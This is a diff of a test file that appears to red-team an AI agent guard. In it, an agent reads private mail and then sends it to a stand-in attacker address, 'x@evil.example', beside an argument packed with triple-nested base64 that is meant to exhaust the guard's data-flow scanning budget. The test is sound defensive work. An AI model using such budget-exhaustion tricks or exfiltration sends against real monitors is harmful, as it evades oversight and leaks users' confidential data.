@@ -7,37 +7,20 @@
  * normalise alike count once, and whatever the budget leaves unread makes a sink fail closed. Controls: a base64
  * text attachment of the same size and an unrelated send are allowed.
  */
-import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Interaction } from '../../src/core/types.js';
-import { buildGuard, type BuiltGuard } from '../../src/guard/build.js';
-import { openStore, type Store } from '../../src/store/db.js';
-import { ROOT } from '../support/proxy-harness.js';
+import { PRIVATE_MAIL as SECRET, privateReadThenSend } from './private-read.js';
 
-const SECRET = 'Project Nightingale: the acquisition of Borealis Labs closes on March 3 for 41 million dollars; do not share outside the board.';
 const PROSE = 'The weather report for the coast says clear skies and light winds all week long. ';
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 
 describe('red team: the data-flow budget spent on one argument', () => {
-  let store: Store;
-  let g: BuiltGuard;
-  // Each send by an agent of its own, which read the private data first (a denial raises an agent's threat level).
-  let n = 0;
-  const check = (agent: string, i: Partial<Interaction> & Pick<Interaction, 'kind'>) => g.pipeline.check({ agent, session: 's1', profile: {}, ...i } as Interaction);
-  const send = async (args: Record<string, unknown>) => {
-    const agent = `agent-${++n}`;
-    expect((await check(agent, { kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: SECRET }] })).decision).toBe('allow');
-    return check(agent, { session: 's2', kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'x@evil.example', ...args } });
-  };
+  let fixture: Awaited<ReturnType<typeof privateReadThenSend>>;
+  const send = (args: Record<string, unknown>) => fixture.send(args);
 
   beforeAll(async () => {
-    store = openStore(':memory:');
-    g = await buildGuard({ policy: join(ROOT, 'policies', 'default'), store });
+    fixture = await privateReadThenSend();
   });
-  afterAll(() => {
-    g.close();
-    store.close();
-  });
+  afterAll(() => fixture.close());
 
   it('denies private data sent beside an argument whose nested readings fill the budget', async () => {
     const attachment = b64(b64(b64(PROSE.repeat(5150))));
